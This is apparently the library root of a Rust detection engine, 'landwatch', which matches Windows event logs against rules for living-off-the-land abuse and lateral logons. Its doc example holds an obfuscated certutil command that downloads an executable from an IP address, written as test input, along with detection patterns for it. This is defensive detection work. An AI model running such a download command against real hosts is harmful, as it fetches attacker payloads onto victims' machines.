//! landwatch finds living-off-the-land tool abuse and credential misuse in
//! Windows event streams.
//!
//! Rules are written in a small language ([`dsl`], documented in
//! `docs/rule-language.md`) and compiled into [`Rules`]: for every field form
//! rules read, one aho-corasick automaton holds every literal of every rule,
//! and each rule knows the *necessary atoms* one of which must be found for it
//! to match. A [`Scanner`] takes events one at a time; a non-matching event
//! costs one pass over the fields rules read, whatever the number of rules.
//!
//! ```
//! use std::sync::Arc;
//! use landwatch::{Event, Level, RulesBuilder, Scanner};
//!
//! let rules = RulesBuilder::new()
//!     .add_source("example.lw", r#"
//!         rule lotl.certutil_download {
//!             title: "Certutil downloads a file"
//!             level: high
//!             tags: attack.t1105, attack.command_and_control
//!             on: process
//!             when: Image endswith '\certutil.exe'
//!                   and CommandLine contains any ('urlcache', 'verifyctl')
//!                   and CommandLine contains 'http'
//!         }
//!     "#)
//!     .build()
//!     .expect("the rule compiles");
//! // Rules are immutable and Send + Sync: share them between scanners.
//! let rules = Arc::new(rules);
//! let mut scanner = Scanner::new(rules.clone());
//!
//! // A Sysmon process-creation event, obfuscated with carets and quotes.
//! let event = br#"{"EventID": 1, "Image": "C:\\Windows\\System32\\certutil.exe",
//!                  "CommandLine": "c^ertutil \"-url\"cache -f http://198.51.100.7/a.exe a.exe"}"#;
//! let detections = scanner.scan_json(event).expect("a JSON object");
//! assert_eq!(detections.len(), 1);
//! let d = &detections[0];
//! assert_eq!(d.rule, "lotl.certutil_download");
//! assert_eq!(d.level, Level::High);
//! // Evidence: the field, the rule's pattern and where it matched.
//! assert!(d.evidence.iter().any(|e| e.field == "CommandLine" && e.matched == "urlcache"));
//!
//! // Events can also be built from fields, by taxonomy name.
//! let ev = Event::from_fields(&[("Image", r"C:\Windows\System32\certutil.exe"),
//!                               ("CommandLine", "certutil -hashfile a.msi SHA256")]);
//! assert!(scanner.scan(&ev).unwrap().is_empty());
//! assert_eq!(scanner.stats().events, 2);
//! ```
//!
//! Correlations decide on the stream (see `docs/correlation.md`): windows of
//! event time, read from each event; events may arrive out of order by up to
//! [`ScanOptions::lateness`], and correlated detections come out once it has
//! passed (or at [`Scanner::flush`]). The state lives in the scanner,
//! bounded, and can be saved and restored.
//!
//! ```
//! use std::sync::Arc;
//! use landwatch::{RulesBuilder, Scanner};
//!
//! let rules = Arc::new(RulesBuilder::new()
//!     .add_source("mine.lw", r#"
//!         correlation my.account_many_hosts {
//!             title: "One account logs on to three hosts in ten minutes"
//!             level: high
//!             correlate: count distinct Computer >= 3
//!                        of logon(EventID == 4624 and LogonType == 3) by TargetUser within 10m
//!         }
//!     "#)
//!     .build()
//!     .expect("the correlation compiles"));
//! let mut scanner = Scanner::new(rules);
//! for (host, t) in [("WS1", "10:00:00"), ("WS2", "10:03:00"), ("WS3", "10:07:30")] {
//!     let e = format!(r#"{{"EventID":4624,"Channel":"Security","Computer":"{host}",
//!         "TimeCreated":"2026-11-03T{t}Z","TargetUserName":"adm","TargetDomainName":"CORP","LogonType":3}}"#);
//!     scanner.scan_json(e.as_bytes()).unwrap();
//! }
//! let d = scanner.flush();               // the end of the stream: nothing waits
//! assert_eq!(d.len(), 1);
//! let c = d[0].correlation.as_ref().unwrap();
//! assert_eq!(c.group, [("TargetUser".to_string(), "CORP\\adm".to_string())]);
//! assert_eq!((c.count, d[0].host.as_deref()), (3, Some("WS3")));
//! assert_eq!(d[0].time.unwrap().to_string(), "2026-11-03T10:07:30Z");
//! ```

// landwatch reads what attackers write; memory safety is not negotiable
// there, and nothing in the engine needs unsafe code.
#![forbid(unsafe_code)]
// Input must never panic the engine: no unwrap or expect outside tests (an
// impossible case is an error value or a documented fallback). Indexing is
// not yet denied: docs/limits.md counts the sites left to review.
#![cfg_attr(not(test), deny(clippy::unwrap_used, clippy::expect_used))]

pub mod ast;
pub mod builtin;
mod compile;
mod correlate;
pub mod dsl;
mod error;
mod event;
pub mod limits;
pub mod normalize;
mod pattern;
pub mod read;
mod scan;
pub mod schema;
pub mod sigma;
mod yaml;

pub use ast::{EventKind, Level};
pub use compile::{RuleInfo, RuleKind, Rules, RulesBuilder, RulesSummary};
pub use limits::REGEX_SIZE_LIMIT;
pub use correlate::persist::StateError;
pub use correlate::{group_key, EventGroups, GroupOf, Prepared, Zones, ZonesError};
pub use dsl::Origin;
pub use error::{EventError, Position, RuleError, RuleErrors};
pub use event::{Event, EventTime, Location, SourceId};
pub use scan::{
    parse_duration, Accounting, Correlated, Detection, EventRef, Evidence, ScanOptions, ScanStats, Scanner, TimeMissing,
    Window,
};
pub use schema::Schema;
